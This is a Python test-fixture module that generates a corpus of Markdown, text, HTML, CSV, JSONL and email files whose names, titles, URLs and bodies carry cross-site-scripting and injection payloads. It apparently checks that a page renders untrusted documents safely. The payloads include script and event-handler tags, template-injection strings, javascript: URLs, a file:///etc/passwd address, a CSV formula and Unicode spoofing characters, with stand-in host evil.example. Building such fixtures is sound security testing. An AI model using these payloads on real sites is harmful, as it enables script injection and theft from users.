"""Documents that attack the page: in their names, titles, dates, addresses, languages, headings and texts.

Whatever runs sets `window.hacked`; whatever is fetched is asked of `evil.example`. Every payload stands in a sentence
about ships, so that the question `QUESTION` finds some, and each in a file of its own, so that all are listed and read.
"""

# ruff: noqa: E501 - the payloads
import email.message
import json
import os
from pathlib import Path

RUN = "window.hacked=1"
EVIL = "evil.example"
_PILE = "\u0337\u0310" * 200
QUESTION = "How many ships did the keeper count?"

PAYLOADS = [
    # script, in every way that HTML has
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt src=//{EVIL}/x.js></sCrIpT>",
    f"<script type=module>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0c>{RUN}</script\x0c>",
    # event handlers
    f"<img src=http://{EVIL}/x.png onerror={RUN}>",
    f"<img src=x onerror={RUN}>",
    f'"><svg onload={RUN}>',
    f"' onmouseover='{RUN}' x='",
    f'" onfocus={RUN} autofocus tabindex=1 x="',
    f"` onmouseover=`{RUN}`",
    f"<details open ontoggle={RUN}>",
    f"<body onload={RUN}><input autofocus onfocus={RUN}>",
    f"<video src=//{EVIL}/v onerror={RUN}><audio src=//{EVIL}/a onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={RUN}>",
    # frames, vector graphics, other documents
    f"<iframe src=//{EVIL}></iframe><iframe srcdoc='&lt;script&gt;parent.hacked=1&lt;/script&gt;'></iframe>",
    f"<svg><script>{RUN}</script><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,&lt;svg onload={RUN}&gt;'></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<object data=//{EVIL}/o></object><embed src=//{EVIL}/e><applet code=x>",
    f"<link rel=stylesheet href=//{EVIL}/s.css><link rel=prefetch href=//{EVIL}/p>",
    f"<base href=//{EVIL}/><meta http-equiv=refresh content='0;url=//{EVIL}/'>",
    f"<form action=//{EVIL}><button formaction=javascript:{RUN}>x</button></form>",
    f"<template><img src=//{EVIL}/t></template><noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    # looks
    f"</p></article></div><style>*{{display:none}} @import '//{EVIL}/i.css'; @font-face{{src:url(//{EVIL}/f)}}</style>",
    f"<p style='position:fixed;inset:0;z-index:9999;background:url(//{EVIL}/b)'>all is ours</p>",
    f"<img srcset='//{EVIL}/1 1x' loading=eager><picture><source srcset=//{EVIL}/2></picture>",
    # the languages of templates: Gradio's HTML has two
    f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}} `${{{RUN}}}`",
    f"{{{{#with this}}}}{{{{lookup (lookup this 'constructor') 'constructor'}}}}{{{{/with}}}} {{{{{{{RUN}}}}}}}",
    f"<%= {RUN} %> #{{{RUN}}} {{% {RUN} %}} @{{{RUN}}} [[{RUN}]]",
    f"\\${{{RUN}}} \\`;{RUN};// \\u003cscript\\u003e{RUN}\\u003c/script\\u003e \\x3cimg src=x onerror={RUN}\\x3e",
    # Markdown and addresses
    f"[click](javascript:{RUN}) ![x](http://{EVIL}/x.png) <javascript:{RUN}>",
    f'[x]: //{EVIL}/ "t" onmouseover={RUN}\n\n[x][x] ![y][x] <http://{EVIL}>',
    f"<a href='javascript:{RUN}'>x</a> <a href=data:text/html,&lt;script&gt;{RUN}&lt;/script&gt;>y</a>",
    f"<a href='java\tscript:{RUN}'>x</a> <a href='\x01javascript:{RUN}'>y</a> <a href=//{EVIL} target=_top>z</a>",
    f"```html\n<script>{RUN}</script>\n```\n$$\\href{{javascript:{RUN}}}{{x}}$$",
    # letters
    f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt;img src=x onerror={RUN}&amp;gt; &#60;svg onload={RUN}&#62;",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u02bascript\u02ba \u2028{RUN}\u2029",
    f"\u202egpj.exe\u202c \u2066turned\u2069 zero\u200bwidth\ufeff \u061c\u200f \U000e0041\U000e0042 {RUN}",
    f"\u05e9\u05dc\u05d5\u05dd <img src=x onerror={RUN}> \u0645\u0631\u062d\u0628\u0627 ' \" > {RUN}",
    f"\x1b[31mred\x1b]0;{RUN}\x07 \x08\x7f\x85\x9b {RUN}",
    f"Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f{_PILE} <script>{RUN}</script>",
]
ADDRESSES = [
    *(
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f" javascript:{RUN}",
        f"java\\nscript:{RUN}",
        f"vbscript:{RUN}",
    ),
    *(
        f"data:text/html,<script>{RUN}</script>",
        f"//{EVIL}/",
        f'http://{EVIL}/\\" onmouseover={RUN} x=\\"',
        "http://[::",
    ),
    *(
        "file:///etc/passwd",
        f"blob:http://{EVIL}/1",
        f"http://{EVIL}/<script>{RUN}</script>",
        f"https://{EVIL}@here/",
    ),
]
NAMES = [
    *(
        "<img src=x onerror=window.hacked=1>.txt",
        '"quoted" onmouseover="window.hacked=1.txt',
        "it's `${window.hacked=1}`.md",
    ),
    *(
        "two\nlines<script>window.hacked=1<|script>.txt",
        "&lt;b&gt;&quot;.txt",
        "{{window.hacked=1}}.md",
        "%3Cscript%3E.txt",
    ),
    *(
        "javascript:window.hacked=1.txt",
        "\u202egpj.txt",
        "zero\u200bwidth.txt",
        "a\\..\\b.txt",
        "\u05e9\u05dc\u05d5\u05dd'\">.txt",
    ),
    *("?source=..#x&y=1.txt", "#t1-q1.txt", "  .txt", "<svg onload=window.hacked=1>/deep<iframe src=x>.md"),
]


def sentence(number: int, payload: str) -> str:
    return f"Keeper number {number} of the lighthouse counted {300 + number} ships and wrote {payload} into his book."


def _markdown(number: int, payload: str, url: str) -> str:
    """Return a document with the payload in every field that Markdown has."""
    front = {
        "title": payload,
        "author": payload,
        "date": f"2024-01-{1 + number % 28:02}",
        "url": url,
        "language": "en",
    }
    if number % 3 == 0:
        front |= {"date": payload, "language": payload}
    lines = "\n".join(f"{key}: {json.dumps(value)}" for key, value in front.items())
    return f"---\n{lines}\n---\n# {payload}\n\n{sentence(number, payload)}\n\n## {payload}\n\n- {payload}\n"


def _mail(payload: str) -> bytes:
    mail = email.message.EmailMessage()
    mail["Subject"] = " ".join(payload.split())
    mail["From"] = "keeper@lighthouse.example"
    mail["Date"] = "Mon, 01 Jan 2024 00:00:00 +0000"
    mail.set_content(sentence(901, payload))
    mail.add_alternative(f"<html><body>{sentence(901, payload)}{payload}</body></html>", subtype="html")
    return mail.as_bytes()


def _strange() -> dict[str, bytes]:
    """Return documents that are attacks by their size or shape."""
    web = f"<html><head><title>{PAYLOADS[6]}</title><base href=//{EVIL}><link rel=canonical href='javascript:{RUN}'></head>"
    many = "".join(PAYLOADS)
    return {
        "nested.html": f"{web}<body><p>{sentence(902, many)}</p>{'<div><b>' * 10_000}{sentence(903, 'deep')}".encode(),
        "web.html": f"{web}<body><h1>{many}</h1><article><p>{sentence(904, many)}</p></article></body></html>".encode(),
        "line.txt": (sentence(905, "a line without an end") + " " + "<b>ships" * 60_000).encode(),
        "word.txt": ("Ships of the keeper\n\n" + sentence(906, "x" * 20_000)).encode(),
        "nul.txt": ("Ships\n\n" + sentence(907, f"<scr\x00ipt>{RUN}</scr\x00ipt>")).encode(),
        "bytes.txt": f"Ships\n\n{sentence(908, PAYLOADS[7])}\n".encode() + b"\xff\xfe\xed\xa0\x80\n",
        "table.csv": "\n".join(["title,url,text", *(f'"{p.replace(chr(34), chr(34) * 2)}","javascript:{RUN}","{sentence(n + 500, "=cmd()|x").replace(chr(34), "")}"' for n, p in enumerate(PAYLOADS[:12]))]).encode(),
        "records.jsonl": "\n".join(json.dumps({"title": p, "url": f"javascript:{RUN}", "text": sentence(n + 600, p)}) for n, p in enumerate(PAYLOADS[:12])).encode(),
        "mail.eml": _mail(PAYLOADS[0]),
        "turned.md": f"# \u202e{PAYLOADS[2]}\n\n\u0627\u0644\u0633\u0641\u0646 {sentence(909, PAYLOADS[1])}\n".encode(),
    }  # fmt: skip


def corpus() -> dict[str, bytes]:
    """Return every document: its path inside the corpus, and its bytes."""
    found: dict[str, bytes] = {}
    for number, payload in enumerate(PAYLOADS):
        url = ADDRESSES[number % len(ADDRESSES)]
        found[f"payload{number:02}.md"] = _markdown(number, payload, url).encode("utf-8", "surrogatepass")
        found[f"payload{number:02}.txt"] = f"{payload}\n\n{sentence(number + 100, payload)}\n".encode()
    for number, name in enumerate(NAMES):
        found[name] = (
            f"A document with a strange name\n\n{sentence(number + 200, PAYLOADS[number])}\n".encode()
        )
    return found | _strange()


def write(folder: Path) -> Path:
    """Write every document that this file system takes."""
    for name, data in corpus().items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    assert os.name == "nt" or len([path for path in folder.rglob("*") if path.is_file()]) == len(corpus())
    return folder
